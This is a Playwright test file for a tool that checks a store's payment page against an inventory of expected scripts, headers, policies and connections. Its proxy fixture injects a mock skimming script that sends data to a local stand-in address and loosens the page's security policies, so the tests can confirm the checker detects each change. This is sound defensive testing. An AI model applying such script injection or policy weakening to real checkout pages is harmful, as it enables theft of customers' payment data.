import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { join } from 'node:path';
import { expect } from '@playwright/test';
import { checkIn, type Check } from '../../../resilience/payment-page/check.ts';
import { test as ownStorefrontTest } from '../fixtures/own-storefront.ts';
import { askOn, startServer } from '../fixtures/small-server.ts';
import type { PayableSample, Store } from '../fixtures/store.ts';
import { standInForStripe } from '../fixtures/stripe/stand-in.ts';

const workspace = join(import.meta.dirname, '../../..');
const builtInventory = join(workspace, 'apps/storefront/dist/payment-page/inventory.json');

/** A script as a thief would inject it into the page, with permission to run, and the URL to which it sends typed text. */
const stolen = 'fetch("http://127.0.0.1:9/stolen").catch(() => {})';
const hash = `'sha256-${createHash('sha256').update(stolen).digest('base64')}'`;

/** A `test` with a proxy in front of the store, which changes the responses in all the ways that the checker must detect. */
const test = ownStorefrontTest.extend<{ changedStore: string }>({
  changedStore: async ({ ownStorefront }, provide) => {
    const { origin, stop } = await startServer((asked, answer) => void change(ownStorefront.origin, asked, answer));
    await provide(origin);
    await stop();
  },
});

const watched = { METRICS_TOKEN: 'watch' };
test.use({ storefrontVariables: watched });
test.setTimeout(240_000);

async function change(origin: string, asked: IncomingMessage, answer: ServerResponse): Promise<void> {
  const given = await askOn(origin, asked, { ...asked.headers, 'accept-encoding': 'identity' });
  const headers = { ...given.headers };
  delete headers['permissions-policy'];
  let content = Buffer.concat(await given.toArray());
  const isApp = asked.url?.includes('/assets/hydrate-app-');
  if (isApp) content = Buffer.concat([content, Buffer.from(';')]);
  const policy = headers['content-security-policy'];
  if (policy && asked.url?.endsWith('/payment')) {
    content = Buffer.from(content.toString().replace('</body>', `<script>${stolen}</script></body>`));
    headers['content-security-policy'] = String(policy)
      .replace('script-src ', `script-src ${hash} `)
      .replace('connect-src ', 'connect-src http://127.0.0.1:9 ');
  }
  answer.writeHead(given.statusCode ?? 502, { ...headers, 'content-length': content.length });
  answer.end(content);
}

/** The storefront's settings that the checker needs. */
const settingsOf = (sandboxOrigin: string) => ({
  CARD_PROCESSOR: `${sandboxOrigin}/card-processor`,
  LAUNCHDARKLY_CLIENT_ID: 'sandbox',
  LAUNCHDARKLY_BASE_URL: `${sandboxOrigin}/flags`,
  LAUNCHDARKLY_STREAM_URL: `${sandboxOrigin}/flags`,
  LAUNCHDARKLY_EVENTS_URL: `${sandboxOrigin}/flags`,
});

/** Runs the checker as an operator of the store does. */
function check(origin: string, { number, accountNumber }: PayableSample, { sandboxOrigin }: Store) {
  const url = `${origin}/invoices/en-us`;
  const words = ['run', '--silent', 'check:payment-page', '--', url, '--invoice', number, '--account', accountNumber];
  const env = { ...process.env, ...settingsOf(sandboxOrigin) };
  return new Promise<{ code: unknown; said: string }>((resolve) =>
    execFile('npm', words, { cwd: workspace, env }, (error, said, complaint) =>
      resolve({ code: error?.code ?? 0, said: said + complaint }),
    ),
  );
}

test('the payment page matches the inventory, from its first script to the requests when it is left', async ({
  ownStorefront,
  takeInvoice,
  store,
}) => {
  const { code, said } = await check(ownStorefront.origin, takeInvoice({ currency: 'USD' }), store);
  expect(said).toMatch(/\/payment: \d\d scripts, \d\d requests\nAll as in the inventory\.\n$/);
  expect(code).toBe(0);
});

test('a changed script, header, policy or connection is detected', async ({ changedStore, takeInvoice, store }) => {
  const { code, said } = await check(changedStore, takeInvoice({ currency: 'USD' }), store);
  const lines = said.split('\n').map((line) => line.split(/ {2,}/));
  expect(lines.slice(1, -1)).toEqual([
    ['What', 'Which', 'Expected', 'Found'],
    ['script', 'in the page', 'nothing', `${hash.slice(1, -1)} ${stolen}`],
    [
      'script',
      expect.stringMatching(/^\/assets\/hydrate-app-\S+\.js \(/),
      expect.stringMatching(/^sha256-/),
      expect.any(String),
    ],
    ['header', 'permissions-policy', expect.stringContaining('camera=()'), 'nothing'],
    ['policy', 'script-src', 'nothing more', hash],
    ['policy', 'connect-src', 'nothing more', 'http://127.0.0.1:9'],
    ['connection', 'fetch', 'nothing', 'http://127.0.0.1:9/stolen'],
  ]);
  expect(code).toBe(1);
});

test.describe('with Stripe’s fields', () => {
  const stripe = { STRIPE_PUBLISHABLE_KEY: 'pk_test_journeys' };
  test.use({ storefrontVariables: { ...watched, ...stripe } });

  test('the page matches the inventory; Stripe in a store without it is detected', async ({
    ownStorefront,
    browser,
    store,
    takeInvoice,
  }) => {
    const context = await browser.newContext();
    await standInForStripe(context, store);
    const { number: invoice, accountNumber: account } = takeInvoice({ currency: 'USD' });
    const sought = { url: `${ownStorefront.origin}/invoices/en-us`, chosen: { invoice, account } };
    const settings = settingsOf(store.sandboxOrigin);
    const inventory = JSON.parse(await readFile(builtInventory, 'utf8')) as Check['inventory'];
    const differencesWith = async (more: Check['settings']) => {
      const check = { ...sought, inventory, settings: { ...settings, ...more } };
      return (await checkIn(context, check)).differences;
    };
    expect(await differencesWith(stripe)).toEqual([]);
    const found = (await differencesWith({})).map(({ what, name }) => `${what} ${name}`);
    expect(new Set(found)).toEqual(
      new Set([
        'script https://js.stripe.com/endive/stripe.js',
        'policy script-src',
        'policy connect-src',
        'policy frame-src',
        'policy trusted-types',
        'connection script',
        'frame https://js.stripe.com',
      ]),
    );
    await context.close();
  });
});
